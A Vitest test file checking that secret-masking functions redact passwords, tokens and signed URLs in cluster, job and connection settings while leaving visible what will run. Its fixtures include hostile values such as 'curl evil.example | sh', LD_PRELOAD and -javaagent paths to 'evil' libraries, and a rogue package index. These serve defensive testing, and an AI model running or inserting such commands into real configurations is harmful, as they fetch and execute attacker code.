import { describe, expect, test } from "vitest";
import { maskGiven, maskSettings } from "../../../src/api/reference/mask.ts";

const MASK = "[redacted]";

describe("maskSettings", () => {
  test.each([
    [
      "rules of a cluster policy as JSON text",
      {
        definition:
          '{"spark_env_vars.DB":{"type":"fixed","value":"hunter2"},"spark_conf.x.password":{"type":"unlimited","defaultValue":"hunter2"},"num_workers":{"type":"fixed","value":2}}',
      },
      {
        definition: `{"spark_env_vars.DB":{"type":"fixed","value":"${MASK}"},"spark_conf.x.password":{"type":"unlimited","defaultValue":"${MASK}"},"num_workers":{"type":"fixed","value":2}}`,
      },
    ],
    [
      "rules of a cluster policy as an object",
      { definition: { "spark_env_vars.DB": { type: "allowlist", values: ["hunter2"] } } },
      { definition: { "spark_env_vars.DB": { type: "allowlist", values: [MASK] } } },
    ],
    ["text that is no policy", { definition: "SELECT 1" }, { definition: "SELECT 1" }],
    [
      "Spark settings",
      {
        spark_conf: {
          "db.pwd": "hunter2",
          "x.auth": "hunter2",
          "fs.azure.sas.c.a": "hunter2",
          "fs.azure.account.auth.type": "OAuth",
        },
      },
      {
        spark_conf: { "db.pwd": MASK, "x.auth": MASK, "fs.azure.sas.c.a": MASK, "fs.azure.account.auth.type": "OAuth" },
      },
    ],
    [
      "parameters of a job",
      {
        parameters: [
          { name: "db_password", default: "hunter2" },
          { name: "day", default: "1" },
        ],
      },
      {
        parameters: [
          { name: "db_password", default: MASK },
          { name: "day", default: "1" },
        ],
      },
    ],
    [
      "parameters of a task",
      { notebook_task: { base_parameters: { api_key: "hunter2", day: "1" } } },
      { notebook_task: { base_parameters: { api_key: MASK, day: "1" } } },
    ],
    [
      "options of a connection",
      { options: { authorization_code: "hunter2", pkce_verifier: "hunter2", host: "h" } },
      { options: { authorization_code: MASK, pkce_verifier: MASK, host: "h" } },
    ],
    [
      "environment variables of an app",
      {
        env: [
          { name: "X", value: "hunter2" },
          { name: "Y", valueFrom: "scope" },
        ],
      },
      {
        env: [
          { name: "X", value: MASK },
          { name: "Y", valueFrom: "scope" },
        ],
      },
    ],
    ["addresses of webhooks", { config: { slack: { url: "https://h/x" } } }, { config: { slack: { url: MASK } } }],
    [
      "keys in plain text",
      { openai_config: { openai_api_key_plaintext: "hunter2", openai_api_key: "{{secrets/a/b}}" } },
      { openai_config: { openai_api_key_plaintext: MASK, openai_api_key: "{{secrets/a/b}}" } },
    ],
    ["references stay", { spark_env_vars: { A: "{{secrets/a/b}}" } }, { spark_env_vars: { A: "{{secrets/a/b}}" } }],
  ])("masks %s", (_, value, expected) => {
    expect(maskSettings(value)).toEqual(expected);
    expect(maskGiven(value)).toEqual(expected);
    expect(maskSettings(expected)).toEqual(expected);
  });
});

test("activation links and bearer tokens of Delta Sharing are masked wherever they are", () => {
  const recipient = {
    name: "r",
    tokens: [{ id: "1", activation_url: "https://a.example/x?y" }],
    activation_url: "https://a",
  };
  expect(maskSettings({ recipients: [recipient], token_detail: { bearerToken: "t" } })).toEqual({
    recipients: [{ name: "r", tokens: [{ id: "1", activation_url: "[redacted]" }], activation_url: "[redacted]" }],
    token_detail: { bearerToken: "[redacted]" },
  });
});

describe("a question shows what runs, and hides credentials", () => {
  const shown = (name: string, value: string) => maskGiven({ spark_env_vars: { [name]: value } });
  test.each([
    ["LD_PRELOAD", "/tmp/evil.so"],
    ["PYTHONPATH", "/a/b:/c"],
    ["PIP_INDEX_URL", "https://evil.example:8080/simple"],
    ["DATA", "abfss://raw@acme.dfs.core.windows.net/x"],
    ["JAVA_TOOL_OPTIONS", "-javaagent:/tmp/evil.jar"],
    ["PROMPT_COMMAND", "curl evil.example | sh # token"],
    ["AWS_CREDENTIAL_PROVIDER", "com.evil.Provider"],
    ["FROM_SCOPE", "{{secrets/a/b}}"],
  ])("%s", (name, value) => {
    expect(shown(name, value)).toEqual({ spark_env_vars: { [name]: value } });
  });

  test.each([
    ["DB_PASSWORD", "hunter2"],
    ["DB_PASSWORD", "correct horse battery"],
    ["X", "hunter2"],
    ["AWS_SECRET", "/K7MDENGbPxRfiCYEXAMPLEKEY1wJalr"],
    ["AWS_SECRET", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
    ["PIP_INDEX_URL", "https://ana:hunter2@pypi.example/simple"],
    ["FILES", "https://h.example/x?sig=abc"],
    ["LINK", "https://h.example/0123456789abcdef0123456789abcdef"],
  ])("not %s=%s", (name, value) => {
    expect(shown(name, value)).toEqual({ spark_env_vars: { [name]: MASK } });
  });

  test("credentials within a command are hidden alone", () => {
    expect(shown("RUN", "curl -H token: hunter2 --key=/x.pem https://a.example/aB3dE5gH7jK9mN")).toEqual({
      spark_env_vars: { RUN: `curl -H token: ${MASK} --key=/x.pem ${MASK}` },
    });
  });

  test("settings of Spark and rules of policies, but not in results", () => {
    const spark_conf = { "spark.my.token.provider": "evil.Class", "x.token": "a.b2.c33", "x.secret": "hunter2" };
    expect(maskGiven({ spark_conf })).toEqual({ spark_conf: { ...spark_conf, "x.token": MASK, "x.secret": MASK } });
    const rule = { "spark_env_vars.LD_PRELOAD": { type: "fixed", value: "/evil.so" } };
    expect(maskGiven({ definition: rule })).toEqual({ definition: rule });
    expect(maskSettings({ spark_env_vars: { LD_PRELOAD: "/evil.so" } })).toEqual({
      spark_env_vars: { LD_PRELOAD: MASK },
    });
  });

  test("X14 long values take no long time", () => {
    const before = performance.now();
    for (const part of ["key", "a.", "/a", "a:", "a1", "-Dkey= "]) shown("X", `-${part.repeat(100_000)}`);
    for (const part of ["key", "a.", "/a", "a:", "a1B"]) shown("X", part.repeat(100_000));
    expect(performance.now() - before).toBeLessThan(2000);
  });
});
